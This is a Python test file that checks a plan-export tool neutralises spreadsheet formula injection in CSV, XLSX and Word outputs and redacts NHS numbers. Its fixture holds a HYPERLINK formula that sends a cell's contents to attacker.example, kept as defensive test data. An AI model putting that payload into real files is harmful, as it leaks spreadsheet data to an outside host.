"""Exports opened by someone else: no cell runs as a formula in a spreadsheet program, the paper
holds no field made of a note, and every note leaves with identifying details removed unless the
business unit cleared it."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from collections.abc import Collection
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession

from bot.paper import write_paper
from bot.privacy import REDACTED
from bot.rules import Rag
from storage import export
from storage.plan_io import export_file, import_file
from storage.planfile import PlanFile
from storage.spreadsheet import neutralised, restored
from tests.conftest import london
from tests.factories import action, add_update, load, plan_of, row_counts

NOW = london(2019, 11, 4, 9)
# Notes a lead might paste, each of which a spreadsheet program would run as a formula if left alone.
FORMULAS = {
    "2.1": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the report")',
    "2.2": "=6*7",
    "3.1": "+6*7 audits planned",
    "4.1": "-6*7 referrals since June",
    "4.2": "@SUM(6*7)",
}
NHS_NOTE = "Family seen at home; NHS number 943 476 5919 recorded, review in May."


@pytest.fixture
async def formulas(session: AsyncSession, ncscp: PlanFile) -> AsyncSession:
    await load(session, ncscp)
    for ref, note in FORMULAS.items():
        await add_update(session, await action(session, "NCSCP", ref), Rag.RED, note, london(2019, 10, 30, 9))
    return session


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as source:
        return list(csv.reader(source))


@pytest.mark.parametrize(
    "text", ["=6*7", "+1", "-2", "@A1", "\t=1", "\r=1", "'=1", "''", "'plain", "plain", "", "a=b", "'"]
)
def test_a_neutralised_cell_reads_back_as_written(text: str) -> None:
    cell = neutralised(text)
    assert restored(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


async def test_the_csv_puts_a_quote_before_each_formula_and_reads_back_the_note(
    formulas: AsyncSession, tmp_path: Path
) -> None:
    out = tmp_path / "plan.csv"
    await export_file(formulas, "NCSCP", out)
    cells = [cell for row in csv_cells(out) for cell in row]
    for note in FORMULAS.values():
        assert "'" + note in cells
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []

    # Importing the exported table onto the plan it came from reads each note as it was written.
    before = await row_counts(formulas)
    report = await import_file(formulas, out, now=NOW, partnership="NCSCP")
    assert report.updates_added == 0
    assert await row_counts(formulas) == before


async def test_the_xlsx_holds_each_formula_as_text(formulas: AsyncSession, tmp_path: Path) -> None:
    out = tmp_path / "plan.xlsx"
    await export_file(formulas, "NCSCP", out)
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type != "s"] == []
    by_text = {c.value: c for c in cells}
    for note in FORMULAS.values():
        assert by_text[note].quotePrefix, note
    assert not by_text["Red"].quotePrefix


async def test_the_paper_prints_a_formula_as_text_never_as_a_field(formulas: AsyncSession, tmp_path: Path) -> None:
    out = tmp_path / "paper.docx"
    partnership, _ = await plan_of(formulas, "NCSCP")
    await write_paper(formulas, partnership, out, NOW)
    document = Document(str(out))
    texts = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    for note in FORMULAS.values():
        assert note in texts  # in the plan table
        assert any(text.startswith(note) for text in texts)
    with zipfile.ZipFile(out) as package:
        xml = "".join(package.read(name).decode() for name in package.namelist() if name.endswith(".xml"))
    assert "fldSimple" not in xml
    assert xml.count("<w:instrText") == 2  # the footer's PAGE and NUMPAGES, and nothing else
    assert "6*7" not in "".join(xml.split("<w:instrText")[1:]).split("</w:instrText>")[0]


@pytest.fixture
async def nhs_note(session: AsyncSession, ncscp: PlanFile) -> AsyncSession:
    await load(session, ncscp)
    await add_update(session, await action(session, "NCSCP", "2.2"), Rag.RED, NHS_NOTE, london(2019, 10, 30, 9))
    return session


async def exported_texts(session: AsyncSession, folder: Path) -> dict[str, str]:
    """Every file the business unit can export, as the text a reader would see in it."""
    await export_file(session, "NCSCP", folder / "plan.csv")
    await export_file(session, "NCSCP", folder / "plan.xlsx")
    partnership, _ = await plan_of(session, "NCSCP")
    await write_paper(session, partnership, folder / "paper.docx", NOW)
    sheet = load_workbook(folder / "plan.xlsx").active
    assert sheet is not None
    paper = Document(str(folder / "paper.docx"))
    return {
        "csv": (folder / "plan.csv").read_text(encoding="utf-8"),
        "xlsx": "\n".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value),
        "docx": "\n".join(cell.text for table in paper.tables for row in table.rows for cell in row.cells),
    }


async def test_an_nhs_number_never_leaves_in_an_export(nhs_note: AsyncSession, tmp_path: Path) -> None:
    redacted = NHS_NOTE.replace("943 476 5919", REDACTED)
    for kind, text in (await exported_texts(nhs_note, tmp_path)).items():
        assert "943 476 5919" not in text, kind
        assert redacted in text, kind
    # The paper prints it twice: under Red in the exceptions, and in the plan table.
    paper = Document(str(tmp_path / "paper.docx"))
    cells = [cell.text for table in paper.tables for row in table.rows for cell in row.cells]
    assert sum(redacted in text for text in cells) == 2


async def test_a_note_the_business_unit_cleared_leaves_as_written(
    nhs_note: AsyncSession, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def everything_cleared(session: AsyncSession, update_ids: Collection[int]) -> set[int]:
        return set(update_ids)

    monkeypatch.setattr(export, "cleared", everything_cleared)
    for kind, text in (await exported_texts(nhs_note, tmp_path)).items():
        assert NHS_NOTE in text, kind
        assert REDACTED not in text, kind


async def test_an_export_with_a_note_redacted_imports_back_without_a_new_update(
    nhs_note: AsyncSession, tmp_path: Path
) -> None:
    out = tmp_path / "plan.xlsx"
    await export_file(nhs_note, "NCSCP", out)
    before = await row_counts(nhs_note)
    report = await import_file(nhs_note, out, now=NOW, partnership="NCSCP")
    assert report.updates_added == 0
    assert await row_counts(nhs_note) == before


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def convert(source: Path, to: str, profile: Path) -> Path:
    """Open `source` in LibreOffice, as a person would, and save it as `to` (csv, xlsx)."""
    out = source.parent / f"{source.stem}-{source.suffix[1:]}-to"
    assert SOFFICE is not None
    options = [f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", to, "--outdir", str(out)]
    subprocess.run(
        [SOFFICE, *options, str(source)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return out / f"{source.stem}.{to}"


@pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice (soffice) is not installed, so the exports are not opened in a spreadsheet program; "
    "`make test` installs it with apt-get when run as root",
)
async def test_libreoffice_opens_the_exports_and_runs_no_formula(formulas: AsyncSession, tmp_path: Path) -> None:
    profile = tmp_path / "libreoffice-profile"
    # A control: a CSV with a bare formula, which LibreOffice does compute, so the check below can fail.
    control = tmp_path / "control.csv"
    control.write_text("No.,Comment on Progress\n1,=6*7\n", encoding="utf-8")
    assert "42" in convert(control, "csv", profile).read_text(encoding="utf-8")

    for suffix in ("csv", "xlsx"):
        exported = tmp_path / f"plan.{suffix}"
        await export_file(formulas, "NCSCP", exported)
        seen = [cell for row in csv_cells(convert(exported, "csv", profile)) for cell in row]
        assert [c for c in seen if "42" in c] == [], suffix
        for note in FORMULAS.values():
            assert note in seen or "'" + note in seen, (suffix, note)  # LibreOffice shows the CSV's quote
        sheet = load_workbook(convert(exported, "xlsx", profile)).active
        assert sheet is not None
        formulas_found = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert formulas_found == [], suffix
